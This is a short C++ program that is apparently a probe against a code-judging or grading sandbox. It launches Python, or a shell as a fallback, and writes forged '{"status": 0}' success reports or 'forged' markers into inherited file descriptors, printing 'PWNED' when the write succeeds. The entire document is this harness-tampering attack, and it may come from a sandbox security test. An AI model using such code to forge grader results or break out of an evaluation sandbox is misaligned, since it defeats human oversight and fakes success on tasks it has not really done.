// RE: turns into a Python that looks for descriptors and forges reports
int main() {
    const char *source =
        "import os\n"
        "held = [fd for fd in range(3, 300) if os.path.exists(f'/proc/self/fd/{fd}')]\n"
        "written = 0\n"
        "for fd in range(3, 300):\n"
        "    try: written += os.write(fd, b'{\"status\": 0}')\n"
        "    except OSError: pass\n"
        "if written: print('PWNED', held)\n"
        "os._exit(3)\n";
    for (const char *python : {"/usr/bin/python3", "/python/bin/python3", "/python/bin/python3.11"})
        execl(python, "python3", "-S", "-c", source, nullptr);
    execl("/bin/sh", "sh", "-c", "echo forged >&5 && echo PWNED; echo forged >&4 && echo PWNED; exit 3", nullptr);
    return 3;
}
